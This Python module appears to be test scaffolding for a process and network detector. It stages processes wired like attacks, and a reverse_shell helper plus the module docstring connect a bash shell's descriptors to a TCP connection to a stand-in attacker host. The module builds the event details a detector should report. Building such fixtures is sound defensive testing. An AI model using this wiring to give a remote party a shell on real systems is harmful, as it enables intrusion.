"""Stages processes that are wired like an attack.

A Stage has named channels and processes:

    channels   {"line": tcp(attacker.tcp), "in": pipe()}
    processes  {"shell": shell("mark", {0: "in.read"}), "relay": companion({0: "in.write", 3: "line"})}

A process lists the end of a channel for each of its descriptors. Unlisted, 0, 1 and 2 are /dev/null, and no other
descriptor is open. All processes of a stage are siblings. Their parent, the stagehand, holds every end of every channel
until the stage is closed.
"""

import dataclasses
import json
import os
import pathlib
import subprocess
import sys

from children import end_child

STAGEHAND = pathlib.Path(__file__).with_name("stagehand.py")
BASH = os.path.realpath("/bin/bash")
ON_LINE = {0: "line", 1: "line", 2: "line"}


def tcp(address, from_address=None):
    return ("tcp", address, from_address)


def udp(address):
    return ("udp", address)


def loopback(address):
    """A TCP connection of this host with itself, at the given address: the ends are NAME and NAME.accepted."""
    return ("loopback", address)


def pipe():
    """The ends are NAME.read and NAME.write."""
    return ("pipe",)


def fifo(path):
    """A named pipe. The ends are NAME.read and NAME.write."""
    return ("fifo", str(path))


def socketpair():
    """The ends are NAME.first and NAME.second."""
    return ("socketpair",)


def terminal():
    """The ends are NAME, the side for a shell, and NAME.control."""
    return ("terminal",)


@dataclasses.dataclass(frozen=True)
class Process:
    descriptors: dict
    run: tuple = ()  # the program, then its arguments starting with its name; empty: holds its descriptors and waits
    becomes: tuple = ()  # its final arguments, if they differ from run

    def cmdline(self):
        return " ".join(self.becomes or self.run[1:])


def shell(mark, descriptors, program=BASH, name="bash"):
    """A shell that reads commands. mark in its command line identifies it."""
    return Process(descriptors, run=(str(program), name, "-s", mark))


def companion(descriptors):
    return Process(descriptors)


class Stage:
    """Starts all processes, and returns once each has its descriptors and its command line."""

    def __init__(self, channels, processes):
        self._processes = processes
        wiring = {
            "channels": channels,
            "processes": {name: dataclasses.asdict(process) for name, process in processes.items()},
        }
        self._child = subprocess.Popen(
            [sys.executable, str(STAGEHAND)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        try:
            self._child.stdin.write(json.dumps(wiring) + "\n")
            self._child.stdin.flush()
            answer = json.loads(self._child.stdout.readline() or '{"error": "the stagehand has ended"}')
            if "error" in answer:
                raise RuntimeError(answer["error"])
        except BaseException:
            self.close()
            raise
        self.pids = answer["processes"]
        self.addresses = answer["addresses"]

    @property
    def parent_pid(self):
        return self._child.pid

    @property
    def pid(self):
        return self.pids["shell"]

    def local_port(self, channel="line"):
        return self.addresses[channel]["local"][1]

    def expected_content(self, channel="line", process="shell"):
        """The content of the event that reports the process with the connection of the channel."""
        (local_ip, local_port), (remote_ip, remote_port) = (
            self.addresses[channel]["local"],
            self.addresses[channel]["remote"],
        )
        return {
            "pid": self.pids[process],
            "path": os.path.realpath(self._processes[process].run[0]),
            "ppid": self.parent_pid,
            "parentPath": os.path.realpath(sys.executable),
            "cmdline": self._processes[process].cmdline(),
            "parentCmdline": f"{sys.executable} {STAGEHAND}",
            "localIp": local_ip,
            "localPort": local_port,
            "remoteIp": remote_ip,
            "remotePort": remote_port,
        }

    def converse(self, end, send, until):
        """Sends text to an end of a channel and returns the answer, up to and including until."""
        self._child.stdin.write(json.dumps({"end": end, "send": send, "until": until}) + "\n")
        self._child.stdin.flush()
        answer = json.loads(self._child.stdout.readline())
        assert "received" in answer, answer
        return answer["received"]

    def close(self):
        end_child(self._child)

    def __enter__(self):
        return self

    def __exit__(self, *exception):
        self.close()


def reverse_shell(attacker, process):
    """A stage with only this process, and a connection to the attacker's host as its channel "line"."""
    return Stage({"line": tcp(attacker.tcp)}, {"shell": process})
